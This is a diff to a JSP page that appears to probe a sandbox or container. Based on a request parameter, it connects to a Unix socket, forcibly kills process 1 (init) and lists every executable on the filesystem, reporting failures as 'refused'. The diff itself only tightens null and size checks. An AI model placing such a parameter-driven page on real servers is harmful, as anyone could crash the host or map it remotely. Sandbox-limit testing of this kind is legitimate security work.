@@ -28,13 +28,13 @@
     case "unix": SocketChannel.open(UnixDomainSocketAddress.of("/sockets/site.sock")); return "connected";
     case "end the keeper": return "" + ((ProcessHandle) ((Optional<?>) ProcessHandle.class.getMethod("of", long.class).invoke(null, 1L)).get()).destroyForcibly();
     case "programs": {
-      List<String> found = new ArrayList<>();
+      final List<String> found = new ArrayList<>();
       Files.walkFileTree(Paths.get("/"), new SimpleFileVisitor<Path>() {
         public FileVisitResult preVisitDirectory(Path d, java.nio.file.attribute.BasicFileAttributes a) {
           return d.startsWith("/proc") || d.startsWith("/sys") || d.startsWith("/dev") ? FileVisitResult.SKIP_SUBTREE : FileVisitResult.CONTINUE;
         }
         public FileVisitResult visitFile(Path f, java.nio.file.attribute.BasicFileAttributes a) {
-          if (a.isRegularFile() && Files.isExecutable(f) && !f.getFileName().toString().contains(".so")) found.add(f.toString());
+          if (a.size() > 0 && a.isRegularFile() && Files.isExecutable(f) && !f.getFileName().toString().contains(".so")) found.add(f.toString());
           return FileVisitResult.CONTINUE;
         }
         public FileVisitResult visitFileFailed(Path f, IOException e) { return FileVisitResult.CONTINUE; }
@@ -51,4 +51,4 @@
     return new File(path);
   }
 %><% String what = request.getParameter("what");
-  try { out.print(what == null ? "here" : attempt(what)); } catch (Throwable e) { out.print("refused: " + e); } %>
+  try { out.print(what == null || what.isEmpty() ? "here" : attempt(what)); } catch (Throwable e) { out.print("refused: " + e); } %>
